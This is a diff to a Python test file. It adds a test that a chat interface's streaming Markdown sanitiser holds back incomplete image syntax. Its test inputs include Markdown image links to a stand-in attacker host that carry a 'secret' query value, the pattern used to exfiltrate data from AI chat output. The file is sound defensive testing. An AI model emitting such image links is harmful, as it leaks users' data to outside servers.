@@ -10,7 +10,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from chat_core.markdown_safety import blunt, literal, safe_markdown
+from chat_core.markdown_safety import HELD_BACK, blunt, literal, safe_markdown, safe_streaming
 
 VIEWER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
 PAGE = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
@@ -117,3 +117,16 @@ def test_literal_text_shows_as_written_and_links_nothing():
     rendered = PAGE.render(shown)
     assert rendered == f"<p>{title.replace('<', '&lt;').replace('>', '&gt;')}</p>\n".replace(
         "://", ":\u2060//").replace("www.", "www\u2060.").replace("@", "\u2060@")
+
+
+def test_an_image_still_being_written_is_held_back_while_it_streams():
+    # What a renderer that completes unclosed Markdown would draw as an image is left out until it closes.
+    assert safe_streaming("Look ![chart](http://attacker.example/leak?d=sec") == "Look "
+    assert safe_streaming("Look ![cha") == "Look "
+    whole = "Look ![chart](http://attacker.example/leak?d=secret) and more"
+    assert safe_streaming(whole) == safe_markdown(whole)  # closed: shown as its link
+    assert safe_streaming(whole + " ![next](http") == safe_markdown(whole + " ")
+    for text in ["plain text", "a ! [not an image", "`code`", "x" * 5000]:
+        assert safe_streaming(text) == safe_markdown(text)
+    long = "![x](http://attacker.example/" + "a" * HELD_BACK  # never closed: not held back for ever
+    assert safe_streaming(long) == safe_markdown(long)
